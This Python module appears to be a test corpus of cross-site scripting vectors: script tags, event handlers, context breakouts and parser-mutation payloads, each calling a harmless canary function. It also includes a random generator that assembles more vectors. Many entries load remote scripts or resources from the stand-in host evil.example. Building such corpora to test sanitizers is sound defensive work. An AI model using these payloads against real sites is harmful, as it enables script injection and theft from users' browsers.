"""What would run a script in a reader's browser, by kind, and a generator of more."""

import random
from collections.abc import Iterator

#: `RUN` is what a vector calls; a browser that knows it tells of the call.
RUN = "copinesRan(1)"
_ELEMENTS = (
    "<script>{run}</script>",
    "<ScRiPt/x>{run}</sCrIpT >",
    "<script src=//evil.example/x.js></script>",
    "<script src=data:text/javascript,{run}></script>",
    "<script type=module>{run}</script>",
    "<script\x0c>{run}</script>",
    "<scr<script>ipt>{run}</scr</script>ipt>",
    "<svg><script>{run}</script></svg>",
    "<svg><script href=data:text/javascript,{run} /></svg>",
    "<math><mtext><script>{run}</script></mtext></math>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<iframe src=javascript:parent.{run}></iframe>",
    "<iframe src=//evil.example/></iframe>",
    "<object data=javascript:{run}></object>",
    "<object data=//evil.example/x.swf></object>",
    "<embed src=javascript:{run}>",
    "<embed src=//evil.example/x.svg>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=preload as=image href=//evil.example/p.png>",
    "<link rel=icon href=//evil.example/i.png>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{{background:url(//evil.example/b.png)}}</style>",
    "<p style='background:url(//evil.example/s.png)'>x</p>",
    "<p style='width:expression({run})'>x</p>",
    "<form action=javascript:{run}><button autofocus>x</button></form>",
    "<form id=x><button form=x formaction=javascript:{run}>x</button></form>",
    "<isindex action=javascript:{run} type=image>",
    "<a href=javascript:{run}>lien</a>",
    "<a href=' javascript:{run}'>lien</a>",
    "<a href='java\nscript:{run}'>lien</a>",
    "<a href='java&Tab;script:{run}'>lien</a>",
    "<a href='&#1;javascript:{run}'>lien</a>",
    "<a href='JaVaScRiPt&colon;{run}'>lien</a>",
    "<a href='data:text/html,<script>{run}</script>'>lien</a>",
    "<a href='vbscript:{run}'>lien</a>",
    "<a ping=//evil.example/ href=/>lien</a>",
    "<svg><a xlink:href=javascript:{run}><text y=9>x</text></a></svg>",
    "<math href=javascript:{run}>x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:{run}>x</maction></math>",
    "<map name=m><area shape=default href=javascript:{run}></map>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror={run} /></svg>#x'/></svg>",
    "<svg><image href=//evil.example/i.svg /></svg>",
    "<svg><feImage href=//evil.example/f.svg /></svg>",
    "<img src=//evil.example/a.png>",
    "<img srcset='//evil.example/b.png 2x'>",
    "<picture><source srcset=//evil.example/c.png><img></picture>",
    "<video poster=//evil.example/d.png src=//evil.example/v.mp4></video>",
    "<audio src=//evil.example/a.mp3 autoplay></audio>",
    "<input type=image src=//evil.example/e.png>",
    "<table background=//evil.example/t.png><td>x</table>",
    "<bgsound src=//evil.example/s.wav>",
    "<frameset><frame src=javascript:{run}></frameset>",
    "<portal src=//evil.example/></portal>",
    "<template shadowrootmode=open><script>{run}</script></template>",
)  # fmt: skip
_HANDLERS = (
    "<img src=x onerror={run}>", "<img src=x onerror='{run}' x='>", "<image src=x onerror={run}>",
    "<svg onload={run}>", "<svg/onload={run}//", "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><set attributeName=onmouseover to={run}>", "<svg><animate attributeName=href values=javascript:{run} /><a><text>x</text></a>",
    "<body onload={run}>", "<body onpageshow={run}>", "<body onhashchange={run}>", "<input autofocus onfocus={run}>",
    "<select autofocus onfocus={run}>", "<textarea autofocus onfocus={run}>", "<keygen autofocus onfocus={run}>",
    "<details open ontoggle={run}>", "<video><source onerror={run}></video>", "<video src=x onerror={run}></video>",
    "<audio src=x onerror={run}></audio>", "<marquee onstart={run}>x</marquee>", "<iframe onload={run}></iframe>",
    "<object onerror={run} data=x></object>", "<style onload={run}></style>", "<link rel=stylesheet href=data:text/css, onload={run}>",
    "<p onmouseover={run}>x</p>", "<p onclick={run} tabindex=1>x</p>", "<p tabindex=1 autofocus onfocus={run}>x</p>",
    "<p onpointerenter={run}>x</p>", "<p contenteditable autofocus onfocus={run}>x</p>",
    "<style>@keyframes k{{}}</style><p style=animation-name:k onanimationstart={run}>x</p>",
    "<p style='transition:1s' ontransitionrun={run}>x</p>", "<div popover id=p onbeforetoggle={run}>x</div><button popovertarget=p>x</button>",
    "<p oncontentvisibilityautostatechange={run} style=display:block;content-visibility:auto>x</p>",
    "<dialog open onclose={run}><form method=dialog><button autofocus>x</button></form></dialog>", "<xss onscrollend={run}>x</xss>",
)  # fmt: skip
_BREAKS = (
    "\"><img src=x onerror={run}>", "'><img src=x onerror={run}>", "\" onmouseover={run} x=\"", "' onfocus={run} autofocus x='",
    "\" autofocus onfocus={run} tabindex=1 \"", "` onerror={run} `", "--><script>{run}</script>", "--!><img src=x onerror={run}>",
    "]]><script>{run}</script>", "]]>]]&gt;<script>{run}</script>", "</title><script>{run}</script>", "</textarea><script>{run}</script>",
    "</style><script>{run}</script>", "</script><script>{run}</script>", "</noscript><img src=x onerror={run}>", "</template><img src=x onerror={run}>",
    "</xmp><img src=x onerror={run}>", "</iframe><img src=x onerror={run}>", "\\u003cimg src=x onerror={run}\\u003e", "\\x3cscript\\x3e{run}\\x3c/script\\x3e",
    "\\\";{run}//", "';{run}//", "${{{run}}}", "{{{{{run}}}}}", "{{{{constructor.constructor('{run}')()}}}}", "{{% import os %}}{run}",
    "&lt;script&gt;{run}&lt;/script&gt;", "&amp;lt;script&amp;gt;{run}&amp;lt;/script&amp;gt;", "&#60;script&#62;{run}&#60;/script&#62;",
    "＜script＞{run}＜/script＞", "\u2028{run}\u2029", "<!--<script>{run}</script>-->", "<!--><img src=x onerror={run}>-->", "<![CDATA[<img src=x onerror={run}>]]>",
    "<?xml version='1.0'?><img src=x onerror={run}>", "<!DOCTYPE x [<!ENTITY y '<img src=x onerror={run}>'>]>&y;", "+ADw-script+AD4-{run}+ADw-/script+AD4-",
    "javascript:{run}", "data:text/html,<script>{run}</script>", "//evil.example/x.png", "http://evil.example/\"><img src=x onerror={run}>",
    "https://evil.example/x.png' onload='{run}", "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+{run}//'>",
)  # fmt: skip
#: Mutations: what a parser makes of its own output, where namespaces and contexts meet.
_MUTATIONS = (
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror={run}>'>",
    "<svg></p><style><a id='</style><img src=x onerror={run}>'>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={run}>",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror={run}></style>",
    "<svg><foreignObject><style><img src=x onerror={run}></style></foreignObject></svg>",
    "<svg><desc><style><img src=x onerror={run}></style></desc></svg>",
    "<svg><title><style><img src=x onerror={run}></style></title></svg>",
    "<table><caption><svg><title><table><caption></caption></table><style><a id='</style><img src=x onerror={run}>'>",
    "<select><noembed></select><script x='a'>{run}</script>",
    "<x/><title>&lt;/title&gt;&lt;img src=1 onerror={run}&gt;</title>",
    "<textarea>&lt;/textarea&gt;&lt;img src=1 onerror={run}&gt;</textarea>",
    "<plaintext><img src=x onerror={run}>", "<listing>&lt;img src=x onerror={run}&gt;</listing>",
    "<xmp><p title='</xmp><img src=x onerror={run}>'></xmp>", "<noembed><p title='</noembed><img src=x onerror={run}>'>",
    "<noframes><p title='</noframes><img src=x onerror={run}>'>", "<svg><style>&lt;img src=x onerror={run}&gt;</style></svg>",
    "<img alt='<x' title='/><img src=x onerror={run}>'>", "<a title='`' href='`onmouseover={run}'>x</a>",
)  # fmt: skip
_KINDS = (_ELEMENTS, _HANDLERS, _BREAKS, _MUTATIONS)


def vectors() -> tuple[str, ...]:
    """Return all that are written down."""
    return tuple(vector.format(run=RUN) for kind in _KINDS for vector in kind)


_OPEN = ("", "<", "</", "<!--", "<![CDATA[", "&lt;", "&#60", "\x00<", "<\x00", "<svg><", "<math><", "<p>", "\"><", "'><", "-->", "]]>")  # fmt: skip
_NAMES = ("script", "img", "svg", "a", "iframe", "style", "math", "mglyph", "title", "textarea", "noscript", "template", "object", "base", "meta", "form", "input", "details", "video", "x-y", "SCRIPT", "ſcript", "ımg")  # fmt: skip
_BETWEEN = (" ", "/", "\t", "\n", "\x0c", "\r", "\x0b", "\xa0", "/ /", '"', "'", "`", "=")
_ATTRIBUTES = ("onerror", "onload", "onfocus autofocus", "href", "src", "srcdoc", "xlink:href", "style", "ONERROR", "on\x00error", "onerror\x0c", "data", "action", "formaction", "srcset", "poster", "title", "id", "is")  # fmt: skip
_VALUES = (RUN, f"javascript:{RUN}", f"java\tscript:{RUN}", f"&#106;avascript:{RUN}", "//evil.example/x", f"data:text/html,<script>{RUN}</script>", f"'{RUN}'", f'"{RUN}"', f"`{RUN}`", "x", f"</script><script>{RUN}</script>", f"\"><script>{RUN}</script>")  # fmt: skip
_CLOSE = (
    "",
    ">",
    "/>",
    ">x",
    "><",
    "//",
    "-->",
    "]]>",
    "</script>",
    "</style>",
    "</title>",
    "\x00>",
)


def generated(seed: int, count: int) -> Iterator[str]:
    """Return vectors out of pieces, the same for each seed."""
    chance = random.Random(seed)
    for _ in range(count):
        vector = ""
        for _ in range(chance.randint(1, 3)):
            vector += chance.choice(_OPEN) + chance.choice(_NAMES)
            for _ in range(chance.randint(0, 3)):
                vector += f"{chance.choice(_BETWEEN)}{chance.choice(_ATTRIBUTES)}={chance.choice(_VALUES)}"
            vector += chance.choice(_CLOSE)
            vector += RUN if chance.random() < 0.3 else ""
        yield vector
